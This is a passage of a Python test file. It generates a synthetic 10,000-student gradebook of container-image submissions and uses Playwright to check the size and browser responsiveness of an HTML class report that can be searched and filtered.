                "hint": f"Add the package to requirements.txt, and install it where {id} finds it.",
            }
            fields |= {"verdict": "failed", "score": float(i % 14)}
        if i % 1000 == 3:
            told["greeting"] = {"status": "error", "message": "The registry did not answer."}
            fields |= {"verdict": "ungraded", "score": None}
        image = Image(
            f"{place}@{digest}", digest, config, "linux/amd64", Size(45_000_000 + i, 124_000_000 + i)
        )
        sample = result(Submission(id, f"{place}:v1.0", "image"), image, outcomes(told), **fields)
        results.append(
            replace(sample, started_at=f"2026-11-23T{i // 3600 % 24:02}:{i // 60 % 60:02}:{i % 60:02}Z")
        )
        students.append(Student(id, f"{place}:v1.0", f"Firstname{i % 313} Lastname{i}"))
    shared = tuple(
        Shared((f"student-{i:05}", f"student-{i + 1:05}"), (f"sha256:{i:064x}",), 1000 + i)
        for i in range(0, 2000, 2)
    )
    return Gradebook(("id", "name"), students, results, shared)


def test_10_000_long_logs_weigh_no_more_than_a_report_may(show: Show) -> None:
    logs = [
        "\n".join(f"{i * n * 7919:x} {i}: {n} could not be loaded" for n in range(60)) for i in range(10_000)
    ]
    failed = of(CRASHED, "s")
    results = [
        of(failed, f"s{i}", checks=outcomes({"starts": {"status": "failed", "message": log}}))
        for i, log in enumerate(logs)
    ]
    text = html.render_class(book(*results))
    assert len(text.encode()) <= MOST_BYTES
    page = show(text, "#s/s4321")

    assert page.locator("#student pre").inner_text() == logs[4321].partition("\n")[2]


# When the browser had drawn what it was asked for, in ms after it began to open the page.
DRAWN = "() => new Promise((done) => requestAnimationFrame(() => setTimeout(() => done(performance.now()))))"


def test_10_000_students_open_and_filter_within_2_seconds(show: Show, watched: Watched) -> None:
    text = html.render_class(large(10_000))
    size = len(text.encode())
    page = watched.page
    page.set_default_timeout(SOON_MS)
    page.set_default_navigation_timeout(SOON_MS)

    show(text)
    expect(page.get_by_role("status")).to_have_text(
        "Students: 10,000 of 10,000, the first 100 listed", timeout=SOON_MS
    )
    opened = page.evaluate(DRAWN)
    page.get_by_label("Search by name").fill("lastname4321")
    expect(page.get_by_role("status")).to_have_text("Students: 1 of 10,000", timeout=SOON_MS)
    page.get_by_label("Search by name").fill("")
    page.get_by_label("Check", exact=True).select_option(label="healthcheck")
    before = page.evaluate("performance.now()")
    page.get_by_label("Status").select_option("failed")
    filtered = page.evaluate(DRAWN) - before
    expect(page.get_by_role("status")).to_contain_text("Students: 2,000 of 10,000", timeout=SOON_MS)
    page.get_by_role("button", name="Name", exact=True).click()
    expect(page.locator("[aria-sort]")).to_have_text("Name", timeout=SOON_MS)
    page.get_by_role("link", name="student-00000", exact=True).click()
    expect(page.locator("#student")).to_contain_text("curl: not found", timeout=SOON_MS)
    page.keyboard.press("Escape")
    expect(page.locator("#class")).to_be_visible(timeout=SOON_MS)
    print(f"10,000 students: {size / 1e6:.1f} MB, open in {opened:.0f} ms, filtered in {filtered:.0f} ms")

    assert size <= MOST_BYTES
